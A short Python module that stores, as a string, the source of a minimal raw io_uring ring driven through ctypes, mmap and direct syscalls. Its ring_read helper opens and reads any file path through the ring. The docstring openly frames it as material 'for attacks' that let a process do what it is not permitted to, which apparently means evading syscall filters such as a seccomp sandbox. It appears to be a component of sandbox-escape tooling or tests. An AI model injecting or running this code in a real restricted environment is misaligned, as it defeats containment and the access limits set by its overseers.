"""Source of the smallest io_uring, for attacks that would let it do what the process itself may not."""

from __future__ import annotations

from typing import Final

# offsets: struct io_uring_params, io_uring_sqe and io_uring_cqe of linux/io_uring.h
RING: Final = '''
import mmap

class Ring:
    """One operation at a time: `do` returns what the system call would."""

    def __init__(self):
        params = ctypes.create_string_buffer(120)
        self.fd = syscall(425, 4, params)
        raw = params.raw
        self.sq, self.cq = struct.unpack_from("10I", raw, 40), struct.unpack_from("10I", raw, 80)
        size = max(self.sq[6] + 4 * 4, self.cq[5] + 16 * 8)
        self.rings = mmap.mmap(self.fd, size, offset=0)
        self.entries = mmap.mmap(self.fd, 64 * 8, offset=0x10000000)

    def do(self, code, fd=-1, off=0, address=0, length=0, flags=0):
        entry = struct.pack("BBHiQQII", code, 0, 0, fd, off, address, length, flags)
        tail, mask = (struct.unpack_from("I", self.rings, at)[0] for at in (self.sq[1], self.sq[2]))
        self.entries[(tail & mask) * 64:(tail & mask) * 64 + 64] = entry.ljust(64, b"\\0")
        struct.pack_into("I", self.rings, self.sq[6] + 4 * (tail & mask), tail & mask)
        struct.pack_into("I", self.rings, self.sq[1], tail + 1)
        syscall(426, self.fd, 1, 1, 1, 0, 0)
        head, mask = (struct.unpack_from("I", self.rings, at)[0] for at in (self.cq[0], self.cq[2]))
        _, result = struct.unpack_from("Qi", self.rings, self.cq[5] + 16 * (head & mask))
        struct.pack_into("I", self.rings, self.cq[0], head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

def ring_read(path):
    ring, page = Ring(), ctypes.create_string_buffer(4096)
    name = ctypes.create_string_buffer(path.encode())
    fd = ring.do(18, fd=-100, address=ctypes.addressof(name))  # OPENAT
    size = ring.do(22, fd=fd, address=ctypes.addressof(page), length=4096)  # READ
    return page.raw[:size]
'''
